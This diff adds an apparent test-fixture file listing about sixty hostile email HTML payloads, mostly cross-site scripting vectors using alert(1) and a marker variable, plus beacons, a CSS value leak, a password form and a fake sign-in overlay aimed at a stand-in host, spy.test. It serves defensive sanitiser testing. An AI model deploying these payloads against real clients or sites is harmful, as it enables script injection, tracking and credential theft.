@@ -1,0 +1,80 @@
+/** What a mail that gets through says: a window, and a mark on whatever page is uppermost. */
+const RUN = 'top.hostile=1;parent.hostile=1;alert(1)';
+const SPY = 'https://spy.test/seen';
+
+/** HTML of mails that try to run something, to fetch something or to look like the hub. One line, one mail. */
+export const hostileMails = [
+  // Scripts, by every door that ever stood open.
+  `<script>${RUN}</script>`,
+  `<script src="${SPY}.js"></script>`,
+  `<ScRiPt>${RUN}</sCrIpT>`,
+  `<script\u00a0>${RUN}</script\u00a0>`,
+  `<<script>script>${RUN}<</script>/script>`,
+  `<scr<script>ipt>${RUN}</scr</script>ipt>`,
+  `<img src=x onerror="${RUN}">`,
+  `<img src=x onerror\n=\n"${RUN}">`,
+  `<img/src=x/onerror=${RUN}>`,
+  `<img src="x\`\` onerror=${RUN}">`,
+  `<img """><script>${RUN}</script>">`,
+  `<body onload="${RUN}">x`,
+  `<div onmouseover="${RUN}" style="position:fixed;inset:0;width:9999px;height:9999px">x</div>`,
+  `<input autofocus onfocus="${RUN}">`,
+  `<details open ontoggle="${RUN}">x</details>`,
+  `<video autoplay onloadstart="${RUN}"><source onerror="${RUN}"></video>`,
+  `<audio src=x onerror="${RUN}"></audio>`,
+  `<marquee onstart="${RUN}">x</marquee>`,
+  `<svg onload="${RUN}"></svg>`,
+  `<svg><script>${RUN}</script></svg>`,
+  `<svg><animate onbegin="${RUN}" attributeName=x dur=1s></svg>`,
+  `<svg><set attributeName="href" to="javascript:${RUN}"/></svg>`,
+  `<svg><use href="data:image/svg+xml;base64,${Buffer.from(`<svg id="x" xmlns="http://www.w3.org/2000/svg" onload="${RUN}"/>`).toString('base64')}#x"/></svg>`,
+  `<svg><foreignObject><iframe srcdoc="&lt;script&gt;${RUN}&lt;/script&gt;"></iframe></foreignObject></svg>`,
+  `<math><mtext><table><mglyph><style><img src=x onerror="${RUN}"></style></mglyph></table></mtext></math>`,
+  `<math><maction actiontype="statusline" xlink:href="javascript:${RUN}">x</maction></math>`,
+  `<noscript><p title="</noscript><img src=x onerror=${RUN}>"></noscript>`,
+  `<template><script>${RUN}</script></template>`,
+  `<textarea><img title="</textarea><img src=x onerror=${RUN}>"></textarea>`,
+  `<title><img title="</title><img src=x onerror=${RUN}>"></title>`,
+  `<xmp><p title="</xmp><img src=x onerror=${RUN}>"></xmp>`,
+  `<!--><img src=x onerror="${RUN}">-->`,
+  `<![CDATA[><script>${RUN}</script>]]>`,
+  `<?xml version="1.0"?><html:script xmlns:html="http://www.w3.org/1999/xhtml">${RUN}</html:script>`,
+  `+ADw-script+AD4-${RUN}+ADw-/script+AD4-`,
+  // Addresses that run.
+  `<a href="javascript:${RUN}" id="bait">press</a><form id="f" action="javascript:${RUN}"><button>go</button></form>`,
+  `<a href="java\tscript:${RUN}">x</a><a href="&#106;avascript:${RUN}">x</a><a href="\u0001javascript:${RUN}">x</a>`,
+  `<a href="data:text/html,<script>${RUN}</script>">x</a><a href="vbscript:msgbox(1)">x</a>`,
+  `<iframe src="javascript:${RUN}"></iframe>`,
+  `<iframe srcdoc="<script>${RUN}</script>"></iframe>`,
+  `<object data="data:text/html,<script>${RUN}</script>"></object>`,
+  `<embed src="data:text/html,<script>${RUN}</script>">`,
+  `<meta http-equiv="refresh" content="0;url=javascript:${RUN}">`,
+  `<meta http-equiv="refresh" content="0;url=${SPY}">`,
+  `<base href="https://spy.test/"><a href="console/">x</a><img src="seen">`,
+  // Things that ask a foreign server.
+  `<img src="${SPY}.png" width="1" height="1">`,
+  `<img srcset="${SPY}.png 1x" src="//spy.test/x">`,
+  `<picture><source srcset="${SPY}.webp"><img alt="x"></picture>`,
+  `<link rel="stylesheet" href="${SPY}.css"><link rel="preload" as="image" href="${SPY}.png"><link rel="dns-prefetch" href="//spy.test">`,
+  `<style>@import url("${SPY}.css");body{background:url("${SPY}.png")}@font-face{font-family:x;src:url("${SPY}.woff")}*{font-family:x}</style><p>x</p>`,
+  `<style>input[value^="a"]{background:url("${SPY}?a")}</style><input value="a">`,
+  `<p style="background:url('${SPY}.png')">x</p><table background="${SPY}.png"><tr><td background="${SPY}.png">x</td></tr></table>`,
+  `<p style="background:\\75\\72\\6c(${SPY}.png);list-style-image:url(${SPY});width:expression(${RUN});behavior:url(${SPY})">x</p>`,
+  `<iframe src="${SPY}"></iframe><frameset><frame src="${SPY}"></frameset>`,
+  `<object data="${SPY}.swf"><param name="movie" value="${SPY}"></object><applet code="x" archive="${SPY}"></applet>`,
+  `<video poster="${SPY}.png" src="${SPY}.mp4"></video><audio src="${SPY}.mp3" autoplay></audio><bgsound src="${SPY}">`,
+  `<form action="${SPY}" method="post"><input name="password" type="password"><input type="image" src="${SPY}.png"></form>`,
+  `<isindex type="image" src="${SPY}" action="${SPY}"><keygen autofocus><button formaction="${SPY}" autofocus>x</button>`,
+  // Things that reach for the console itself.
+  `<div style="position:fixed;inset:0;z-index:99999;background:#fff">Your session has ended. <a href="${SPY}">Sign in</a></div>`,
+  `<div data-testid="composer-send" id="app">x</div><a name="location"></a><img name="cookie"><form name="body"></form>`,
+  `<p>{{constructor.constructor('${RUN}')()}}</p><p v-html="'<img src=x onerror=${RUN}>'" @click="${RUN}">x</p>`,
+];
+
+/** Who such mails say they are from, and about what. */
+export const hostileHeads = [
+  { name: '<script>top.hostile=1;alert(1)</script>', subject: '<script>top.hostile=1;alert(1)</script>' },
+  { name: '<img src=x onerror=top.hostile=1>', subject: '"><img src=x onerror=top.hostile=1>' },
+  { name: "'><svg onload=top.hostile=1>", subject: "javascript:top.hostile=1//'" },
+  { name: '{{constructor.constructor("top.hostile=1")()}}', subject: '{{constructor.constructor("top.hostile=1")()}}' },
+];
